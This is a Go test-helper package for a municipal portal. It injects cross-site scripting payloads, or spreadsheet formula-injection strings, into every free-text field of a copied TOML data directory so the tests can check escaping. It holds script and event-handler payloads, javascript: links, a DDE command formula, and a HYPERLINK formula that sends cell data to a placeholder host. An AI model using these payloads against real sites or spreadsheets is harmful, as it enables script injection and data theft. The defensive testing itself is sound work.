// Package hostile owns the hostile data the tests feed the portal: a copy
// of a data directory with script, event-handler and javascript: payloads
// (Inject), or spreadsheet formulas (InjectFormulas), written into every
// free-text field that still passes `portal check`.
//
// Both find the fields by trying: they write a payload into every string
// value in every file, run load and check, and take the payload out again
// wherever check objects (ids, codes, references, dates, web addresses),
// until the data is valid. What remains are exactly the fields a member of
// staff can write any text into.
package hostile

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"github.com/openkommune/portal/tools/check"
	"github.com/openkommune/portal/tools/diag"
	"github.com/openkommune/portal/tools/load"
)

// Payload is what is written into every free-text field: a script
// element, an image with an event handler, a Markdown link and an HTML link
// to javascript:, one with the scheme disguised by case and a tab, and a
// data: link. It is plain text in the data; rendered anywhere it must stay
// text.
const Payload = `<script>alert("xss-1")</script><img src=x onerror=alert("xss-2")> [lenke](javascript:alert("xss-3")) <a href="javascript:alert('xss-4')" onclick="alert('xss-5')">x</a> [b](JaVa	ScRiPt:alert("xss-6")) [c](data:text/html;base64,PHNjcmlwdD5hbGVydCgieHNzLTciKTwvc2NyaXB0Pg==) </textarea></title><svg onload=alert("xss-8")>`

// Marker is a string every payload contains: search for it.
const Marker = "xss"

// Formulas are what InjectFormulas writes at the start of the free-text
// fields, one per field in turn: cells a spreadsheet would run as a
// formula (CSV injection, OWASP), with the formula character in ASCII,
// full width and small form, after a tab, a line break, a space, a
// no-break space, an ideographic space or a zero-width space, and a text
// that starts with an apostrophe. Each is followed by a space and the
// field's own text.
var Formulas = []string{
	`=HYPERLINK("http://x.invalid/?d="&A1,"klikk")`,
	`+1+1`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	`＝1+1`,
	`＋1+1`,
	`－1+1`,
	`＠SUM(A1)`,
	`﹦1+1`,
	` =1+1`,
	"\u00a0=1+1",
	"\u3000＝1+1",
	"\u200b=1+1",
	`=cmd|' /C calc'!A0`,
	`'=1+1`,
}

// tomlString is s as the inside of a TOML basic string.
var tomlString = strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`, "\r", `\r`, "\n", `\n`, "\u00a0", `\u00A0`, "\u3000", `\u3000`, "\u200b", `\u200B`).Replace

// tomlPayload is Payload as the inside of a TOML basic string.
var tomlPayload = tomlString(Payload)

// single is a key = "…" line with a one-line basic string.
var single = regexp.MustCompile(`^(\s*[A-Za-z0-9_]+\s*=\s*")((?:[^"\\]|\\.)*)("\s*(?:#.*)?)$`)

// Inject copies the data directory src to dst with Payload appended to
// every free-text field and returns how many fields per key name got it.
func Inject(src, dst string) (map[string]int, error) {
	return inject(src, dst, func(string) string { return tomlPayload }, false)
}

// InjectFormulas copies the data directory src to dst with one of Formulas
// at the start of every free-text field and returns how many fields per
// key name got one. The formulas are handed out in turn to the values in
// the order first met, and a value met again gets the same formula, so
// that a code and the references to it stay equal.
func InjectFormulas(src, dst string) (map[string]int, error) {
	seen := map[string]int{}
	return inject(src, dst, func(value string) string {
		n, ok := seen[value]
		if !ok {
			n = len(seen)
			seen[value] = n
		}
		return tomlString(Formulas[n%len(Formulas)])
	}, true)
}

// inject copies src to dst and writes payload(value) (already a TOML
// string's inside) into every string value: at its start when first, else
// at its end. value is the value as written in the file (the inside of a
// one-line string, or the last line of a multi-line one).
func inject(src, dst string, payload func(value string) string, first bool) (map[string]int, error) {
	if err := os.CopyFS(dst, os.DirFS(src)); err != nil {
		return nil, err
	}
	files := map[string][]string{} // path in dst → lines
	type field struct {
		file  string
		start int // 0-based line of the key
		line  int // 0-based line of the value's end
		edit  int // 0-based line the payload is written into
		orig  string
		key   string
	}
	var fields []field
	err := filepath.WalkDir(dst, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(p) != ".toml" {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		lines := strings.Split(string(b), "\n")
		open := -1 // line of an open """ string
		for i, l := range lines {
			switch {
			case open >= 0:
				if j := strings.Index(l, `"""`); j >= 0 {
					key := strings.TrimSpace(strings.SplitN(lines[open], "=", 2)[0])
					if first {
						// Right after the opening quotes, so the newline
						// after them is kept as part of the text.
						fields = append(fields, field{p, open, i, open, lines[open], key})
						lines[open] += payload(l) + " "
					} else {
						fields = append(fields, field{p, open, i, i, l, key})
						lines[i] = l[:j] + " " + payload(l) + l[j:]
					}
					open = -1
				}
			case strings.HasSuffix(strings.TrimSpace(l), `= """`):
				open = i
			default:
				if m := single.FindStringSubmatch(l); m != nil {
					key := strings.TrimSpace(strings.SplitN(m[1], "=", 2)[0])
					fields = append(fields, field{p, i, i, i, l, key})
					if first {
						lines[i] = m[1] + payload(m[2]) + " " + m[2] + m[3]
					} else {
						lines[i] = m[1] + m[2] + " " + payload(m[2]) + m[3]
					}
				}
			}
		}
		files[p] = lines
		return nil
	})
	if err != nil {
		return nil, err
	}
	write := func() error {
		for p, lines := range files {
			if err := os.WriteFile(p, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
				return err
			}
		}
		return nil
	}
	kept := make([]bool, len(fields))
	for i := range kept {
		kept[i] = true
	}
	for round := 0; ; round++ {
		if err := write(); err != nil {
			return nil, err
		}
		set, diags := load.Load(os.DirFS(dst), "data")
		if diags.Errors() == 0 {
			check.Check(set, diags)
		}
		if diags.Errors() == 0 {
			break
		}
		if round == 10 {
			return nil, fmt.Errorf("the data does not check after taking the payload out of every field check objected to")
		}
		// Take the payload out of every field on a line check objects to,
		// and, for a file-level problem, out of the whole file.
		bad := map[string]map[int]bool{}
		for _, d := range diags.Sorted() {
			if d.Severity != diag.Error {
				continue
			}
			p := filepath.Join(dst, filepath.FromSlash(strings.TrimPrefix(d.Path, "data/")))
			if bad[p] == nil {
				bad[p] = map[int]bool{}
			}
			bad[p][d.Line-1] = true
		}
		reverted := 0
		for i, f := range fields {
			lines, ok := bad[f.file]
			if !ok || !kept[i] {
				continue
			}
			if lines[f.line] || lines[f.start] {
				files[f.file][f.edit] = f.orig
				kept[i] = false
				reverted++
			}
		}
		if reverted == 0 {
			// A problem reported away from the value (e.g. at the table):
			// take the payload out of every kept field in those files,
			// key by key, starting with keys check is known to read.
			for i, f := range fields {
				if bad[f.file] != nil && kept[i] && !freeText[f.key] {
					files[f.file][f.edit] = f.orig
					kept[i] = false
					reverted++
				}
			}
			if reverted == 0 {
				return nil, fmt.Errorf("check still objects to %v after taking the payload out", diags.Sorted()[0])
			}
		}
	}
	count := map[string]int{}
	for i, f := range fields {
		if kept[i] {
			count[f.key]++
		}
	}
	return count, nil
}

// freeText are keys known to be free text, kept when check reports a
// problem away from the value.
var freeText = map[string]bool{"tittel": true, "tekst": true, "navn": true, "beskrivelse": true, "kommentar": true, "ansvarlig": true, "sted": true, "vurdering": true, "begrunnelse": true}

// Keys returns the key names of count, sorted.
func Keys(count map[string]int) []string {
	var ks []string
	for k := range count {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
